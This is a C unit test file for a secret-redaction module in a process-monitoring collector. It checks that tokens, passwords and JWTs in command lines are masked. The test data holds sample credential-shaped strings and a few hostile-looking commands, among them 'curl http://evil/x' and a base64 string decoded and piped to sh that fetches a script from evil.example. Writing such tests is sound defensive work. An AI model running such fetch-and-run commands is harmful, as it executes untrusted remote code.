/* SPDX-License-Identifier: MIT */
/*
 * Secret redaction beyond names (common/redact.h, redact-bare.c): values with blanks in argv
 * (redact_find_args, redact_args_join), bare tokens (GitHub, GitLab, Slack, JWT ...), names
 * followed by a random-looking value, argv truncation markers, shell escapes and separators;
 * each with the false positives that would blind detection rules.  test-redact.c has the
 * named rules.
 */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <string.h>

#include <cmocka.h>

#include "collectors/process/process-decode.h"
#include "common/redact.h"
#include "pipeline/event.h"

#define M REDACT_MARKER
#define CUT "\xe2\x80\xa6[cut 4000 bytes]\xe2\x80\xa6"

static char out[8192];

/* Redacts `in` (n bytes: NULs separate arguments when `argv`); the result in out. */
static const char *red_n(const char *in, size_t n, bool argv)
{
	struct redact_span spans[REDACT_SPANS_MAX];
	unsigned k;
	size_t len;

	if (argv) {
		len = redact_args_join(in, n, out, sizeof(out), &k);
		assert_int_equal(len, strlen(out));
		return out;
	}
	k = redact_find(in, n, spans);
	len = redact_apply(in, n, spans, k, out);
	out[len] = '\0';
	return out;
}

#define check(in, want) check_n(in, sizeof(in) - 1, false, want)
#define check_argv(in, want) check_n(in, sizeof(in) - 1, true, want)
#define check_same(in) check_n(in, sizeof(in) - 1, false, in)

static void check_n(const char *in, size_t n, bool argv, const char *want)
{
	const char *got = red_n(in, n, argv);

	if (strcmp(got, want) != 0)
		fail_msg("redact(\"%s\")\n  got  \"%s\"\n  want \"%s\"", in, got, want);
}

/* ---- gap 1: a secret with blanks in it ---- */

static void test_argv_values_with_blanks(void **state)
{
	(void)state;
	/* the next argument, whole */
	check_argv("app\0--password\0my secret pw\0--user\0bob", "app --password " M " --user bob");
	check_argv("app\0--password=my secret pw\0x", "app --password=" M " x");
	check_argv("mysql\0-uroot\0-pa b c\0db", "mysql -uroot -p" M " db");
	check_argv("sshpass\0-p\0a b\0ssh\0h", "sshpass -p " M " ssh h");
	check_argv("env\0PASSWORD=a b c\0app", "env PASSWORD=" M " app");
	check_argv("curl\0-H\0Authorization: Bearer a b\0https://h/",
		   "curl -H Authorization: Bearer " M " https://h/");
	check_argv("curl\0-H\0X-Api-Key: a b\0https://h/", "curl -H X-Api-Key: " M " https://h/");
	check_argv("app\0--connection-string\0HostName=h;SharedAccessKey=a b\0x",
		   "app --connection-string HostName=h;SharedAccessKey=" M " x");
	/* inside one argument (a shell's): the quotes say where the value ends */
	check_argv("sh\0-c\0PASSWORD=\"a b c\" app --x", "sh -c PASSWORD=\"" M "\" app --x");
	check_argv("sh\0-c\0mysql -p'a b' db", "sh -c mysql -p'" M "' db");
	check_argv("sh\0-c\0app --password a b", "sh -c app --password " M " b");
	/* argument ends are never crossed: the next argument is not part of the value */
	check_argv("app\0--password=\0next", "app --password= next");
	check_argv("app\0--password\0\0next", "app --password  next");
	check_argv("app\0--password", "app --password");
	/* an unmatched quote ends with its argument: it cannot hide the ones after it */
	check_argv("app\0--password\0'abc\0curl\0http://evil/x",
		   "app --password '" M " curl http://evil/x");
	check_argv("sh\0-c\0PASSWORD='abc\0curl\0http://evil/x",
		   "sh -c PASSWORD='" M " curl http://evil/x");
	/* trailing NULs dropped; nothing to redact: a plain join */
	check_argv("ls\0-l\0/tmp\0\0", "ls -l /tmp");
	/* shell escapes and JSON strings: a backslash keeps the blank or quote in the value */
	check("sh -c 'PASSWORD=a\\ b\\ c app'", "sh -c 'PASSWORD=" M " app'");
	check("app {\"password\":\"a\\\"b c\",\"user\":\"bob\"}",
	      "app {\"password\":\"" M "\",\"user\":\"bob\"}");
}

static void test_separators(void **state)
{
	(void)state;
	/* ';', '&', ',' end a value only before another name= or where a shell would */
	check("x PASSWORD=ab,cd,ef y", "x PASSWORD=" M " y");
	check("x PASSWORD=ab;cd y", "x PASSWORD=" M ";cd y"); /* a shell runs cd */
	check("mount -o username=bob,password=a,b,uid=1000 //s /m",
	      "mount -o username=bob,password=" M ",uid=1000 //s /m");
	check("sh -c 'X_TOKEN=abc&&curl http://h'", "sh -c 'X_TOKEN=" M "&&curl http://h'");
	check("sh -c 'PASSWORD=abc; echo hi'", "sh -c 'PASSWORD=" M "; echo hi'");
	check("curl 'https://x/?api_key=abc&q=1'", "curl 'https://x/?api_key=" M "&q=1'");
	check_argv("env\0PASSWORD=a;b&c\0app", "env PASSWORD=" M " app");
	check_argv("env\0PASSWORD=a;USER=b\0app", "env PASSWORD=" M ";USER=b app");
}

/* ---- gap 2: bare tokens ---- */

static void test_bare_tokens(void **state)
{
	(void)state;
	check("git push ghp_16C7e42F292c6912E7710c838347Ae178B4a origin", "git push " M " origin");
	check("GH=gho_16C7e42F292c6912E7710c8383 x", "GH=" M " x");
	check("gh auth github_pat_11ABCDEFG0abcdefghijklmnopqrstuvwxyz x", "gh auth " M " x");
	check("x glpat-abcdefghij1234567890 y", "x " M " y");
	check("x 'xoxb-123456789012-abcdefghijkl'", "x '" M "'");
	check("x sk_live_4eC39HqLyjWDarjtT1zdp7dc", "x " M);
	check("x AIzaSyA1b2C3d4E5f6G7h8I9j0KlMnOpQrStUvW y", "x " M " y");
	check("x npm_abcdefghijklmnopqrstuvwxyz0123456789 y", "x " M " y");
	/* JWT: three base64url parts, the first `eyJ` */
	check("app eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0In0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9 run",
	      "app " M " run");
	check("x --data '{\"t\":\"eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.abcDEF123_-x\"}'",
	      "x --data '{\"t\":\"" M "\"}'");
	check("curl -H 'Authorization: Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2ln' "
	      "https://h/",
	      "curl -H 'Authorization: Bearer " M "' https://h/");
	/* AWS, PEM, URL, SAS, mysql -p: the named rules (test-redact.c), here as one line */
	check("aws AKIAIOSFODNN7EXAMPLE mysql -uroot -pS3cret https://u:pw@h/",
	      "aws " M " mysql -uroot -p" M " https://u:" M "@h/");
}

static void test_bare_tokens_left_alone(void **state)
{
	(void)state;
	check_same("ghp_short gho_ xghp_16C7e42F292c6912E7710c838347Ae178B4a");
	check_same("my_ghp_16C7e42F292c6912E7710c838347Ae178B4a");
	check_same("glpat- xoxb-1 sk_live_x npm_install AIzaSy");
	check_same("echo eyJhbGciOiJIUzI1NiJ9 eyJhbGciOiJIUzI1NiJ9.x eyJ.a.b");
	check_same("python3 -m pip install --user eyJ-tool github_pat_x LD_LIBRARY_PATH=/x");
	check_same("echo d2dldCBodHRwOi8vZXZpbC5leGFtcGxlL3guc2ggfCBzaA== | base64 -d | sh");
}

/* ---- names whose value counts when it looks random ---- */

static void test_random_values(void **state)
{
	(void)state;
	check("vault write auth token 8f3c2a9e4b7d1f6a0c5e8b2d9a4f7c1e",
	      "vault write auth token " M);
	check("app Secret: Zm9vYmFyYmF6cXV4MTIzNDU2Nzg5", "app Secret: " M);
	check("app --apiKey=Q2hhbmdlTWUxMjM0NTY3ODkw x", "app --apiKey=" M " x");
	check("app --Key a7F3kL9pQ2wX8zR5tY1u", "app --Key " M);
	check("chpasswd passwd X9fk2LmQ7vR4pT8w", "chpasswd passwd " M);
	check("redis-cli AUTH 9a8b7c6d5e4f3a2b1c0d9e8f", "redis-cli AUTH " M);
	check("x MyAuth=9a8b7c6d5e4f3a2b1c0d y", "x MyAuth=" M " y");
	check("x X_AUTH:\t'9a8b7c6d5e4f3a2b1c0d'", "x X_AUTH:\t'" M "'");
	check("x pwd 'Hk3j5L7m9N1p3Q5r'", "x pwd '" M "'");
	check_argv("app\0--key\0a7F3kL9pQ2wX8zR5tY1u\0x", "app --key " M " x");
	check_argv("app\0token\0a7F3kL9pQ2wX8zR5tY1u", "app token " M);
}

static void test_random_values_left_alone(void **state)
{
	(void)state;
	/* prose, words, versions, paths, hosts, ids the name does not make secret */
	check_same("failed to refresh token for device: retry in 5s; key rotation pending");
	check_same("kubeadm token list && kubeadm token create --ttl 2h");
	check_same("app --key-file /etc/ssl/private/key.pem --key /etc/ssl/k2048.pem");
	check_same("app --key certs/device01.key.pem --token-ttl 30 /var/lib/secret/dir");
	check_same("gpg --recv-keys 9DC858229FC7DD38854AE2D88D81803C0EBFCD88");
	check_same(
		"apt-key adv --keyserver hkp://keyserver.ubuntu.com --recv-key 7EA0A9C3F273FCD8");
	check_same("ssh-keygen -t ed25519 -f /root/.ssh/id_ed25519 && ssh-add -t 3600");
	check_same("monkey 8f3c2a9e4b7d1f6a0c5e8b2d9a4f7c1e turkey=8f3c2a9e4b7d1f6a0c5e8b2d9a4f");
	check_same("app --key ubuntu-2204-lts-amd64 --secret-name db-password-2024");
	check_same("app token $TOKEN_FROM_ENV key ~/keys/k0123456789abcdef0");
	check_same("docker pull nginx@sha256:0d17b565c37bcbd895e9d92315a05c1c3c9a29f762b011a10c5");
	check_same("git checkout 3f9a1c2b7d4e5f60718293a4b5c6d7e8f9012345");
	check_same("echo key: value token: none secret: 123");
}

/* ---- argv truncation: the tail of a cut secret ---- */

static void test_cut_secrets(void **state)
{
	(void)state;
	check("app --password=AAAAAAAAAAx" CUT "yyyyTAIL --v", "app --password=" M " --v");
	check("sh -c 'curl -H \"Authorization: Bearer BBBBBBBBBB" CUT "TAIL\" https://h'",
	      "sh -c 'curl -H \"Authorization: Bearer " M "\" https://h'");
	check("app eyJhbGciOiJIUzI1NiJ9.cccccccc" CUT "TAIL next", "app " M " next");
	check("x ghp_16C7e42F2" CUT "TAIL y", "x " M " y");
	check("env GITHUB_TOKEN=abc" CUT "TAIL y", "env GITHUB_TOKEN=" M " y");
	check_argv("app\0--token\0DDDDDDDD" CUT "TAIL\0next", "app --token " M " next");
	check("echo -----BEGIN RSA PRIVATE KEY-----MIIE" CUT "xyz-----END RSA PRIVATE KEY-----",
	      "echo -----BEGIN RSA PRIVATE KEY-----" M "-----END RSA PRIVATE KEY-----");
	/* a cut that is not in a secret stays as it is; a marker-like text does not swallow */
	check_same("find / -name x" CUT "tail -print");
	check_same("echo \xe2\x80\xa6[cut x bytes]\xe2\x80\xa6 \xe2\x80\xa6[cut ");
}

/* ---- output stays valid: UTF-8 on cuts, counters ---- */

static void test_args_join_output(void **state)
{
	struct redact_settings off = { .enabled = false }, on = { .enabled = true };
	char small[16];
	unsigned k;
	size_t n;

	(void)state;
	/* cut after the redacting, never inside a UTF-8 sequence */
	n = redact_args_join("echo\0h\xc3\xa9llo w\xe2\x82\xac\xe2\x82\xac", 17, small, 12, &k);
	assert_int_equal(n, strlen(small));
	assert_string_equal(small, "echo h\xc3\xa9llo");
	n = redact_args_join("x\0--password\0abc def", 20, small, sizeof(small), &k);
	assert_int_equal(k, 1);
	assert_null(strstr(small, "def"));
	assert_null(strstr(small, "abc"));
	n = redact_text("ab \xe2\x82\xac", 6, small, 5);
	assert_string_equal(small, "ab ");
	/* redactSecrets false: joined, not redacted */
	assert_int_equal(redact_configure(&off), 0);
	redact_args_join("x\0--password\0a b", 16, out, sizeof(out), &k);
	assert_string_equal(out, "x --password a b");
	assert_int_equal(k, 0);
	assert_int_equal(redact_configure(&on), 0);
}

static void test_event_add_redacted(void **state)
{
	struct event_builder b;
	struct redact_stats before, after;
	struct event *e = NULL;

	(void)state;
	redact_get_stats(&before);
	event_builder_init(&b);
	event_builder_begin(&b, EVENT_PROCESS_CREATE, 1);
	event_builder_item(&b);
	event_add_cstr(&b, PC_EXECUTABLE, "/bin/x");
	event_add_int(&b, PC_PROCESS_ID, 10);
	event_add_int(&b, PC_PARENT_PROCESS_ID, 1);
	event_add_cstr(&b, PC_USER_ID, "0");
	event_add_redacted(&b, 2);
	event_add_cstr(&b, PC_COMMAND_LINE, "x --password " M " --token " M);
	assert_int_equal(event_builder_finish(&b, &e), 0);
	redact_get_stats(&after);
	assert_int_equal(after.secrets - before.secrets, 2);
	assert_int_equal(after.values - before.values, 1);
	event_free(e);
	event_builder_done(&b);
}

/* The process collector's input: argv with its NULs and a cut marker where the capture cut. */
static void test_cmdline_format_args(void **state)
{
	static const char args[] = "app\0--password=HEADTAILSECRET\0next";
	struct process_argv_cut cut = { .at = 19, .cut = 4000 };
	struct process_view_exec x = { .args = args, .args_len = sizeof(args) };
	char raw[256];
	unsigned k;
	size_t n;

	(void)state;
	x.cuts = &cut;
	x.n_cuts = 1;
	n = process_cmdline_format_args(&x, raw, sizeof(raw));
	assert_int_equal(n, sizeof(args) - 1 + strlen(CUT));
	assert_memory_equal(raw, "app\0--password=HEAD" CUT "TAILSECRET\0next", n);
	/* head, marker and tail of a cut argument are one argument: all of it goes */
	redact_args_join(raw, n, out, sizeof(out), &k);
	assert_string_equal(out, "app --password=" M " next");
	/* the plain format is unchanged */
	n = process_cmdline_format(&x, raw, sizeof(raw));
	assert_int_equal(n, strlen(raw));
	assert_string_equal(raw, "app --password=HEAD" CUT "TAILSECRET next");
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_argv_values_with_blanks),
		cmocka_unit_test(test_separators),
		cmocka_unit_test(test_bare_tokens),
		cmocka_unit_test(test_bare_tokens_left_alone),
		cmocka_unit_test(test_random_values),
		cmocka_unit_test(test_random_values_left_alone),
		cmocka_unit_test(test_cut_secrets),
		cmocka_unit_test(test_args_join_output),
		cmocka_unit_test(test_event_add_redacted),
		cmocka_unit_test(test_cmdline_format_args),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
